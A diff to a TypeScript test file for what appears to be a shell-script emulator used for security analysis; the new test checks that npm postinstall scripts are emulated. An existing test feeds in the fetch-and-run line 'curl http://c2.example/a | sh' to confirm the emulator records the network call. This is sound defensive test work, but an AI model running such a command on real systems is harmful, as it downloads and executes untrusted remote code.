@@ -1,6 +1,7 @@
 // The interpreter of shell scripts: what the language makes of words, and scripts that would hang or fill it.
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
+import { emulate } from '../../src/emulate/emulate.ts'
 import { runShell } from '../../src/emulate/run-shell-script.ts'
 import { firstSetting } from '../../src/emulate/setting.ts'
 import type { Trace } from '../../src/trace/trace.ts'
@@ -61,6 +62,18 @@ test('shell: a script that cannot be read is taken for what its text says', asyn
   const trace = await run('if then fi (((\ncurl http://c2.example/a | sh\n')
   assert.ok(trace.network.some((event) => 'url' in event && event.url === 'http://c2.example/a'))
   assert.match(trace.notCovered.join(), /read without being run/)
+})
+
+test('shell: the scripts of a package that npm runs by itself are run', async () => {
+  const source = JSON.stringify({ name: 'a', scripts: { test: 'show test', postinstall: 'show installed' } })
+  const { traces } = await emulate(Buffer.from(source), {
+    fileName: 'package.json',
+    passwords: [],
+    now,
+    budgetMs: 20_000,
+  })
+  const commands = traces.flatMap(({ processes }) => processes.slice(1).map(({ commandLine }) => commandLine))
+  assert.deepEqual(commands, ['show installed'])
 })
 
 const HOSTILE: Readonly<Record<string, string>> = {
